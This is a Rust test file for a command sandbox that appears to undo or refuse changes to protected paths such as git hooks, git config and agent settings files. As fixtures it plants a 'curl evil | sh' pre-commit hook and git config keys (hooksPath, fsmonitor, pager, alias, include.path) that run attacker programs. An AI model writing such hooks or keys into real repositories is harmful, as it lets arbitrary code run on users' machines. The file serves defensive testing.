//! The check after a command, on real directories: new protected paths
//! go, changes are put back from a full snapshot, links are never
//! followed, and a new repository is kept only when harmless.

use super::new_git::unsafe_git_key;
use super::*;

fn dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!(
        "tern-protect-{name}-{}-{}",
        std::process::id(),
        fastrand::u64(..)
    ));
    std::fs::create_dir_all(&d).unwrap();
    std::fs::canonicalize(d).unwrap()
}

/// openat2(2) is how the check opens directories without following links;
/// qemu-user 7 (the aarch64 and armv7 suites) does not implement it, and
/// the sandbox refuses to run there anyway. Says so and tells the test to
/// stop.
fn no_openat2(test: &str) -> bool {
    match crate::sandbox::fsat::open_dir_strict(Path::new("/")) {
        Err(e) if e.raw_os_error() == Some(libc::ENOSYS) => {
            eprintln!("SKIPPED {test}: this kernel (or emulator) has no openat2");
            true
        }
        _ => false,
    }
}

fn plan_for(w: &Path) -> Plan {
    plan(&[w.to_path_buf()], &[w.to_path_buf()], &[], None, None)
}

#[test]
fn changes_are_undone_and_reported() {
    if no_openat2("changes_are_undone_and_reported") {
        return;
    }
    let d = dir("undo");
    std::fs::create_dir_all(d.join(".git/hooks")).unwrap();
    std::fs::write(d.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(d.join(".git/hooks/pre-push.sample"), "sample").unwrap();
    std::fs::write(d.join(".git/config"), "[core]\n").unwrap();
    let p = plan_for(&d);
    assert!(p.read_only.contains(&d.join(".git/hooks")));
    assert!(p.read_only.contains(&d.join(".git/config")));
    assert!(p.pins.contains(&d) && p.pins.contains(&d.join(".git")));
    let snap = take(&p, true);
    std::fs::write(d.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
    std::fs::write(d.join(".git/config"), "[core]\n\thooksPath = /tmp/evil\n").unwrap();
    std::fs::remove_file(d.join(".git/hooks/pre-push.sample")).unwrap();
    std::fs::write(d.join(".git/commondir"), "/tmp/evil").unwrap();
    std::fs::create_dir_all(d.join(".claude")).unwrap();
    std::fs::write(d.join(".claude/settings.json"), "{}").unwrap();
    std::fs::write(d.join("ordinary.txt"), "not protected").unwrap();
    let report = snap.verify();
    assert!(report.refused.is_empty(), "{report:?}");
    assert_eq!(report.undone.len(), 4, "{report:?}");
    assert!(!d.join(".git/hooks/pre-commit").exists());
    assert!(!d.join(".git/commondir").exists());
    assert!(!d.join(".claude").exists());
    assert_eq!(
        std::fs::read_to_string(d.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(d.join(".git/hooks/pre-push.sample")).unwrap(),
        "sample"
    );
    assert!(d.join("ordinary.txt").exists());
    assert!(
        snap.verify().is_empty(),
        "a second pass finds nothing to do"
    );
}

/// Regression: with `.git` replaced by a symlink, the old restore
/// followed it and deleted and wrote files outside the working directory.
#[test]
fn a_git_dir_replaced_by_a_symlink_is_not_followed() {
    if no_openat2("a_git_dir_replaced_by_a_symlink_is_not_followed") {
        return;
    }
    let d = dir("gitlink");
    let outside = dir("gitlink-outside");
    std::fs::create_dir_all(d.join(".git/hooks")).unwrap();
    std::fs::write(d.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(outside.join("hooks")).unwrap();
    std::fs::write(outside.join("hooks/keep"), "outside file").unwrap();
    std::fs::write(outside.join("config"), "outside config").unwrap();
    let snap = take(&plan_for(&d), true);
    std::fs::rename(d.join(".git"), d.join("git-moved")).unwrap();
    std::os::unix::fs::symlink(&outside, d.join(".git")).unwrap();
    let report = snap.verify();
    assert_eq!(
        std::fs::read_to_string(outside.join("hooks/keep")).unwrap(),
        "outside file"
    );
    assert_eq!(
        std::fs::read_to_string(outside.join("config")).unwrap(),
        "outside config"
    );
    assert!(!report.refused.is_empty(), "the model is told: {report:?}");
}

#[test]
fn a_new_repository_is_kept_when_harmless() {
    if no_openat2("a_new_repository_is_kept_when_harmless") {
        return;
    }
    let d = dir("newgit");
    let snap = take(&plan_for(&d), false);
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(&d)
            .output()
            .map(|o| o.status.success());
        ok.unwrap_or(false)
    };
    if !git(&["init", "-q"]) {
        return; // no git here; the planted case below still runs
    }
    assert!(snap.verify().is_empty(), "git init is harmless");
    assert!(d.join(".git/config").exists());
    // Planted: a hook and a config that runs programs.
    let d2 = dir("newgit-evil");
    let snap = take(&plan_for(&d2), false);
    std::fs::create_dir_all(d2.join(".git/hooks")).unwrap();
    std::fs::write(d2.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(d2.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
    std::fs::write(d2.join(".git/hooks/pre-commit.sample"), "sample").unwrap();
    std::fs::write(
        d2.join(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = /tmp/evil\n",
    )
    .unwrap();
    let report = snap.verify();
    assert!(!d2.join(".git/hooks/pre-commit").exists(), "{report:?}");
    assert!(d2.join(".git/hooks/pre-commit.sample").exists());
    assert!(!d2.join(".git/config").exists(), "{report:?}");
    assert!(
        report.undone.iter().any(|u| u.contains("core.fsmonitor")),
        "{report:?}"
    );
}

#[test]
fn git_config_keys_are_an_allow_list() {
    assert_eq!(
        unsafe_git_key("[core]\n\tbare = false\n[remote \"origin\"]\n\turl = x\n\tfetch = y\n"),
        None
    );
    assert_eq!(
        unsafe_git_key("[core]\n\tpager = evil\n").as_deref(),
        Some("core.pager")
    );
    assert_eq!(
        unsafe_git_key("[include]\n\tpath = /tmp/x\n").as_deref(),
        Some("include.path")
    );
    assert_eq!(
        unsafe_git_key("[alias] x = !sh\n").as_deref(),
        Some("alias.x")
    );
    assert_eq!(
        unsafe_git_key("[filter \"lfs\"]\n\tprocess = evil\n").as_deref(),
        Some("filter.*.process")
    );
}

#[test]
fn without_a_copy_changes_are_reported_not_guessed() {
    if no_openat2("without_a_copy_changes_are_reported_not_guessed") {
        return;
    }
    let d = dir("light");
    std::fs::create_dir_all(d.join(".tern")).unwrap();
    std::fs::write(d.join(".tern/settings.json"), "{}").unwrap();
    let snap = take(&plan_for(&d), false);
    std::fs::remove_dir_all(d.join(".tern")).unwrap();
    std::fs::create_dir_all(d.join(".tern")).unwrap();
    std::fs::write(d.join(".tern/settings.json"), "{\"hooks\":1}").unwrap();
    let report = snap.verify();
    assert!(report.undone.is_empty());
    assert_eq!(report.refused.len(), 1, "{report:?}");
}

#[test]
fn hook_files_and_path_dirs_are_protected_but_never_a_working_directory() {
    let d = dir("extra");
    std::fs::create_dir_all(d.join("bin")).unwrap();
    std::fs::write(d.join("check.sh"), "exit 0").unwrap();
    let path = std::env::join_paths([d.join("bin"), d.clone(), PathBuf::from("/usr/bin")]).unwrap();
    let p = plan(
        std::slice::from_ref(&d),
        std::slice::from_ref(&d),
        &[d.join("check.sh"), d.clone()],
        None,
        Some(&path),
    );
    assert!(p.read_only.contains(&d.join("bin")), "{p:?}");
    assert!(p.read_only.contains(&d.join("check.sh")), "{p:?}");
    assert!(!p.read_only.contains(&d), "{p:?}");
}

/// A directory nested past PATH_MAX: it exists, but no path-based call
/// reaches it (root included), so tern cannot look at it.
fn too_deep(d: &Path) -> PathBuf {
    let part = "d".repeat(200);
    let script = format!(
        "cd '{}' && for i in $(seq 22); do mkdir {part} && cd {part}; done && mkdir -p .git/hooks",
        d.display()
    );
    let ok = std::process::Command::new("bash")
        .args(["-c", &script])
        .status()
        .unwrap();
    assert!(ok.success());
    let mut deep = d.to_path_buf();
    for _ in 0..22 {
        deep.push(&part);
    }
    assert!(deep.as_os_str().len() > libc::PATH_MAX as usize);
    deep
}

/// Attack: protected paths tern cannot examine were taken as "absent",
/// so nothing was checked after the command. Now the command is refused.
#[test]
fn protected_paths_that_cannot_be_examined_refuse_the_command() {
    if no_openat2("protected_paths_that_cannot_be_examined_refuse_the_command") {
        return;
    }
    let d = dir("deep");
    let deep = too_deep(&d);
    for full in [true, false] {
        let mut p = Plan::default();
        p.watch(deep.join(".git/hooks"), Kind::Plain);
        let snap = take(&p, full);
        assert_eq!(snap.unseen.len(), 1, "{snap:?}");
        assert!(snap.unseen[0].contains("too long"), "{:?}", snap.unseen);
    }
    // A working directory that deep cannot be planned for: also unseen.
    let p = plan(
        std::slice::from_ref(&deep),
        std::slice::from_ref(&d),
        &[],
        None,
        None,
    );
    assert!(!take(&p, true).unseen.is_empty());
    // What simply does not exist is not an error.
    let mut p = Plan::default();
    p.watch(d.join("missing/.git/hooks"), Kind::Plain);
    p.watch(d.join("hooks"), Kind::Plain);
    assert!(take(&p, true).unseen.is_empty());
    let _ = std::process::Command::new("rm").arg("-rf").arg(&d).status();
}

/// Through the policy: the command is not started, and says why.
#[test]
fn prepare_refuses_when_a_protected_path_is_unseen() {
    if no_openat2("prepare_refuses_when_a_protected_path_is_unseen") {
        return;
    }
    let d = dir("deep-prepare");
    let deep = too_deep(&d);
    let policy = crate::sandbox::SandboxPolicy {
        working: vec![deep.clone()],
        ..crate::sandbox::SandboxPolicy::new(vec![d.clone()])
    };
    let env: Vec<_> = std::env::vars_os().collect();
    let err = policy
        .prepare_in("/bin/sh", "true", &deep, &env, &[])
        .err()
        .expect("refused")
        .to_string();
    assert!(err.contains("could not examine"), "{err}");
    // The same policy on an ordinary directory prepares.
    let fine = crate::sandbox::SandboxPolicy {
        working: vec![d.clone()],
        ..crate::sandbox::SandboxPolicy::new(vec![d.clone()])
    };
    assert!(fine.prepare_in("/bin/sh", "true", &d, &env, &[]).is_ok());
    let _ = std::process::Command::new("rm").arg("-rf").arg(&d).status();
}
